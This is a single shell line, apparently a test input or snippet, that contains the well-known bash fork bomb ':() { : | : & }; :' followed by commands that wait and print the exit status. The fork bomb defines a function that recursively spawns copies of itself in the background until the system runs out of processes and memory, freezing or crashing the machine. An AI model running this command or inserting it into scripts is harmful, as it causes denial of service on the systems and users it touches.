:() { : | : & }; :; wait; echo $?
